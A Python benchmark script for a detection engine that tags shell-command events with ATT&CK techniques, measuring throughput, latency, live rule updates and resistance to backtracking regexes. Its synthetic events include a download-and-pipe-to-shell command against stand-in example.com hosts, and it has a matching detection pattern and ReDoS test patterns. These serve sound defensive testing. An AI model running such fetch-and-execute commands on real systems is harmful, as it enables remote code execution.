"""Rule engine benchmarks: events/s and per-event latency beside the plain reference loop.

Run: python bench/bench_engine.py   (or python -m bench.bench_engine; `make bench` runs it)
Prints a Markdown section. Set BENCH_TAG_EVENTS to change the size of the end-to-end run.
"""

from __future__ import annotations

import asyncio
import os
import random
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

import orjson  # noqa: E402

from decnet.ttp.engine.engine import RuleEngine  # noqa: E402
from decnet.ttp.engine.events import Event  # noqa: E402
from decnet.ttp.engine.reference import ReferenceEngine  # noqa: E402
from decnet.ttp.rules.compiled import CompiledRule  # noqa: E402
from decnet.ttp.rules.compiler import compile_rule  # noqa: E402
from decnet.ttp.rules.loader import load_directory  # noqa: E402
from decnet.ttp.store.base import RuleChange  # noqa: E402

COMMAND = "python bench/bench_engine.py"
EXAMPLES = ROOT / "examples" / "events.jsonl"
PACK = ROOT / "rules" / "ttp"
TAG_EVENTS = int(os.environ.get("BENCH_TAG_EVENTS", "1000000"))

TEMPLATES = (
    r"\b(tool{n}|util{n}x)\s+-{flag}\s+\S+",
    r"/opt/app{n}/[\w.-]+\.(sh|py)\b",
    r"\bcurl\s+[^|;]*svc{n}\.example\.(com|net)\b",
    r"(^|[;&|]\s*)agent{n}(\s+--?[a-z]+)*\s*($|[;&|])",
)
RULE = """\
rule_id: {rule_id}
rule_version: 1
name: synthetic_{n}
applies_to: [command]
match:
  pattern: '{pattern}'
emits:
  - {{tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.7}}
evidence_fields: [command_text]
"""


def synthetic_rules(count: int) -> list[CompiledRule]:
    rules = []
    for n in range(count):
        pattern = TEMPLATES[n % len(TEMPLATES)].format(n=n, flag="abcdefgh"[n % 8])
        rule_id = f"S{n:06d}"
        rules.append(compile_rule(RULE.format(rule_id=rule_id, n=n, pattern=pattern),
                                  source=f"{rule_id}.yaml"))
    return rules


def example_events() -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in EXAMPLES.read_bytes().splitlines() if line.strip()]


def synthetic_events(count: int, rule_count: int, rng: random.Random) -> list[Event]:
    """Mostly the example sessions' commands; one in five aimed at a synthetic rule."""
    commands = [e for e in example_events() if e["source_kind"] == "command"]
    events = []
    for i in range(count):
        if i % 5 == 0:
            n = rng.randrange(rule_count)
            text = [f"tool{n} -{'abcdefgh'[n % 8]} /tmp/x", f"sh /opt/app{n}/run.sh",
                    f"curl -s http://svc{n}.example.com/i | sh", f"agent{n} --quiet"][n % 4]
            payload: dict[str, Any] = {"command_text": text, "user": "root"}
        else:
            payload = commands[i % len(commands)]["payload"]
        events.append(Event("command", f"c{i}", payload))
    return events


def pack_events(count: int) -> list[Event]:
    base = example_events()
    return [Event.from_mapping({**base[i % len(base)], "source_id": f"e{i}"})
            for i in range(count)]


def measure(evaluate: Callable[[Event], Any], events: Sequence[Event]) -> dict[str, float]:
    """Throughput (untimed loop) and per-event p50/p99 (timed loop)."""
    for event in events:
        evaluate(event)  # warm caches: RE2 builds DFA states lazily, per new input shape
    started = time.perf_counter()
    for event in events:
        evaluate(event)
    elapsed = time.perf_counter() - started
    clock = time.perf_counter_ns
    samples = []
    for event in events:
        t0 = clock()
        evaluate(event)
        samples.append(clock() - t0)
    samples.sort()
    return {"rate": len(events) / elapsed,
            "p50": samples[len(samples) // 2] / 1000,
            "p99": samples[min(len(samples) - 1, int(len(samples) * 0.99))] / 1000}


def row(label: str, rules: int, fast: dict[str, float], ref: dict[str, float]) -> str:
    return (f"| {label} | {rules:,} | {fast['rate']:,.0f} | {fast['p50']:.1f} µs | "
            f"{fast['p99']:.1f} µs | {ref['rate']:,.0f} | {ref['p50']:.0f} µs | "
            f"{ref['p99']:.0f} µs | {fast['rate'] / ref['rate']:.0f}x |")


def engine_section() -> None:
    print("| rule set | rules | engine events/s | p50 | p99 | reference events/s | p50 | "
          "p99 | speed-up |")
    print("|---|---:|---:|---:|---:|---:|---:|---:|---:|")
    loaded = load_directory(PACK)
    pack = list(loaded.rules.values())
    events = pack_events(100_000)
    print(row("shipped pack `rules/ttp` (examples/events.jsonl mix)", len(pack),
              measure(RuleEngine(pack).evaluate, events),
              measure(ReferenceEngine(pack).evaluate, events[:20_000])), flush=True)
    rng = random.Random(7)
    for count, ref_events in ((1_000, 2_000), (10_000, 300)):
        rules = synthetic_rules(count)
        events = synthetic_events(50_000, count, rng)
        engine = RuleEngine(rules)
        print(row(f"{count:,} synthetic pattern rules", count,
                  measure(engine.evaluate, events),
                  measure(ReferenceEngine(rules).evaluate, events[:ref_events])), flush=True)


def change_section() -> None:
    rules = synthetic_rules(10_000)
    started = time.perf_counter()
    engine = RuleEngine(rules)
    build = time.perf_counter() - started
    events = synthetic_events(5_000, 10_000, random.Random(3))
    for event in events:
        engine.evaluate(event)
    replacements = synthetic_rules(50)
    applies: list[float] = []
    gaps: list[float] = []

    async def worker() -> float:
        """Apply a 50-rule deploy on the loop while a task evaluates events on it."""
        done = asyncio.Event()

        async def evaluate_forever() -> None:
            i = 0
            last = time.perf_counter()
            while not done.is_set():
                engine.evaluate(events[i % len(events)])
                i += 1
                await asyncio.sleep(0)
                now = time.perf_counter()
                gaps.append(now - last)
                last = now

        task = asyncio.create_task(evaluate_forever())
        t0 = time.perf_counter()
        for rule in replacements:
            t1 = time.perf_counter()
            engine.apply(RuleChange("definition", rule.rule_id, rule))
            applies.append(time.perf_counter() - t1)
            await asyncio.sleep(0.001)
        while engine.pending:  # noqa: ASYNC110 - polling a plain counter
            await asyncio.sleep(0.001)
        folded = time.perf_counter() - t0
        done.set()
        await task
        return folded

    folded = asyncio.run(worker())
    applies.sort()
    gaps.sort()
    print(f"\nIndex updates on the 10,000-rule engine (full build {build * 1e3:,.0f} ms): a "
          f"50-rule deploy applied on the event loop, one change per ms, while a task "
          f"evaluates events on the same loop — `apply` p50 "
          f"{applies[len(applies) // 2] * 1e6:,.0f} µs, max {applies[-1] * 1e6:,.0f} µs; "
          f"changed rules evaluated individually until compaction ({engine.compactions} "
          f"rounds, one bucket compile per loop callback) folded them in "
          f"{folded * 1e3:,.0f} ms after the first change; longest gap between two "
          f"evaluations meanwhile {gaps[-1] * 1e3:.1f} ms (p99 "
          f"{gaps[int(len(gaps) * 0.99)] * 1e3:.2f} ms).")


def hostile_section() -> None:
    pack = list(load_directory(PACK).rules.values())
    hostile_rules = [
        compile_rule(RULE.format(rule_id="H0001", n=1, pattern=r"(?<!x)(a+)+$"),
                     source="H0001.yaml"),
        compile_rule(RULE.format(rule_id="H0002", n=2, pattern=r"(a+)+$"),
                     source="H0002.yaml"),
    ]
    engine = RuleEngine(pack + hostile_rules)
    benign = pack_events(2_000)
    hostile = Event("command", "h", {"command_text": "a" * 50_000 + "b"})
    worst_hostile = 0.0
    worst_benign = 0.0
    for i, event in enumerate(benign):
        if i % 100 == 0:
            t0 = time.perf_counter()
            engine.evaluate(hostile)
            worst_hostile = max(worst_hostile, time.perf_counter() - t0)
        t0 = time.perf_counter()
        engine.evaluate(event)
        worst_benign = max(worst_benign, time.perf_counter() - t0)
    stats = engine.fallback_stats
    print(f"\nHostile patterns: `(?<!x)(a+)+$` (no RE2 form: PCRE2 within a step limit) and "
          f"`(a+)+$` (RE2) beside the pack, 20 events of 50 KB `aaa…ab` among 2,000 benign "
          f"ones: the longest any event took (= the longest another event waited behind "
          f"it) {worst_hostile * 1e3:.1f} ms for a hostile event, {worst_benign * 1e3:.2f} ms "
          f"for a benign one; fallback: {stats.searches} search(es), {stats.limit_hits} "
          f"stopped at the step limit. Target: ≤ 100 ms.")


def tag_section() -> None:
    base = example_events()
    with tempfile.TemporaryDirectory() as tmp:
        source = Path(tmp) / "events.jsonl"
        with source.open("wb") as out:
            for i in range(TAG_EVENTS):
                event = base[i % len(base)]
                out.write(orjson.dumps({**event, "source_id": f"e{i}"}) + b"\n")
        target = Path(tmp) / "tags.jsonl"
        command = [sys.executable, "-m", "decnet.cli.app", "tag", str(source), "-o",
                   str(target), "--rules", str(PACK)]
        log = Path(tmp) / "stderr.txt"
        started = time.perf_counter()
        # posix_spawn (vfork-like): the child's peak RSS is its own, not this process's
        pid = os.posix_spawn(sys.executable, command, {**os.environ, "PYTHONPATH": str(ROOT)},
                             file_actions=[
                                 (os.POSIX_SPAWN_OPEN, 1, os.devnull, os.O_WRONLY, 0),
                                 (os.POSIX_SPAWN_OPEN, 2, str(log),
                                  os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)])
        peak_kb = 0
        while True:
            done, status, _usage = os.wait4(pid, os.WNOHANG)
            if done:
                break
            try:
                # VmHWM: the high-water RSS of the child's own address space (its
                # ru_maxrss would include this process's, inherited through the spawn)
                status_text = Path(f"/proc/{pid}/status").read_text()
                peak_kb = max(peak_kb, int(status_text.split("VmHWM:")[1].split()[0]))
            except (OSError, IndexError, ValueError):
                pass
            time.sleep(0.01)
        elapsed = time.perf_counter() - started
        returncode = os.waitstatus_to_exitcode(status)
        errors = log.read_text(errors="replace")
        size = source.stat().st_size
        tags = sum(1 for _ in target.open("rb")) if target.exists() else 0
    if returncode != 0:
        print(f"\n`tag` failed: {errors[-500:]}")
        return
    print(f"\n`decnet-ttp tag` end to end on {TAG_EVENTS:,} events ({size / 1e6:,.0f} MB, the "
          f"examples mix; {tags:,} tags written), one process incl. start-up and rule load: "
          f"{elapsed:.1f} s = **{TAG_EVENTS / elapsed:,.0f} events/s**, peak RSS "
          f"**{peak_kb / 1024:,.0f} MB** (VmHWM, sampled every 10 ms).")


def main() -> None:
    print(f"### Rule engine\n\n`{COMMAND}` (Python {sys.version.split()[0]}; one core; "
          "reference = a loop of precompiled `re.search` per rule, `decnet.ttp.engine."
          "reference`)\n")
    engine_section()
    change_section()
    hostile_section()
    tag_section()
    print("\nTargets (one core): shipped pack ≥ 100,000 events/s and p99 ≤ 50 µs; 1,000 "
          "rules ≥ 20,000 events/s and ≥ 20x the reference; `tag` ≥ 50,000 events/s with "
          "RSS ≤ 200 MB; hostile: no event waits > 100 ms.")


if __name__ == "__main__":
    main()
